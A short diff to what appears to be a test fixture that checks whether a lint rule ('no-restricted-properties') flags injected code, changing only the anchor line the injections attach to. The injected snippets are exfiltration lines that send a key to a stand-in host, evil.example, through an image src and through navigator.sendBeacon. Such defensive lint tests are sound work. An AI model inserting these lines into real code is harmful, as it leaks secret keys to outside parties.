@@ -35,15 +35,14 @@ export const addressPromises: readonly HeldPromise[] = [
       },
       {
         file: exchange,
-        text: "const forms = keyForms(key);",
-        becomes:
-          'const forms = keyForms(key);\n  document.createElement("img").src = `https://evil.example/${key}`;',
+        text: "let sends = 0;",
+        becomes: 'let sends = 0;\n  document.createElement("img").src = `https://evil.example/${key}`;',
         rule: "no-restricted-properties",
       },
       {
         file: exchange,
-        text: "const forms = keyForms(key);",
-        becomes: "const forms = keyForms(key);\n  navigator.sendBeacon(`https://evil.example/${key}`);",
+        text: "let sends = 0;",
+        becomes: "let sends = 0;\n  navigator.sendBeacon(`https://evil.example/${key}`);",
         rule: "no-restricted-properties",
       },
     ],
